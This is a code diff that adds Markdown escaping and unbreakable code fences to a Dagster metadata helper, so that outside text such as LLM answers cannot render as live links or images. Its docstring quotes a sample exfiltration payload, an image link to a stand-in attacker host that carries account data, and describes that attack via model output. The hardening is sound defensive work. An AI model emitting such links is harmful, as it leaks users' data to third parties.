@@ -1,9 +1,29 @@
-"""Markdown tables for asset metadata (the Dagster UI renders them)."""
+"""Markdown for asset metadata (the Dagster UI renders it), with every piece of outside text escaped.
 
+Model answers, broker messages and file contents are data: escaped, an LLM's
+``![x](https://attacker/?acct)`` shows as text instead of making the browser fetch a URL.
+"""
+
+import re
 from typing import Any
+
+_SPECIAL = re.compile(r"([\\`\[\]!<>|])")
+
+
+def escape(value: Any) -> str:
+    """Text shown literally in Markdown: what makes links, images, HTML, code and table cells escaped
+    (``[ ] ! < > ` |`` and the backslash), line breaks folded."""
+    return _SPECIAL.sub(r"\\\1", str(value)).replace("\r", " ").replace("\n", " ")
+
+
+def code_block(text: str, language: str = "text") -> str:
+    """A fenced block the text cannot close: the fence is longer than any run of backticks inside."""
+    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
+    fence = "`" * max(3, longest + 1)
+    return f"{fence}{language}\n{text}\n{fence}"
 
 
 def table(header: list[str], rows: list[list[Any]]) -> str:
-    lines = ["| " + " | ".join(header) + " |", "|" + "---|" * len(header)]
-    lines += ["| " + " | ".join(str(c) for c in row) + " |" for row in rows]
+    lines = ["| " + " | ".join(escape(h) for h in header) + " |", "|" + "---|" * len(header)]
+    lines += ["| " + " | ".join(escape(c) for c in row) + " |" for row in rows]
     return "\n".join(lines)
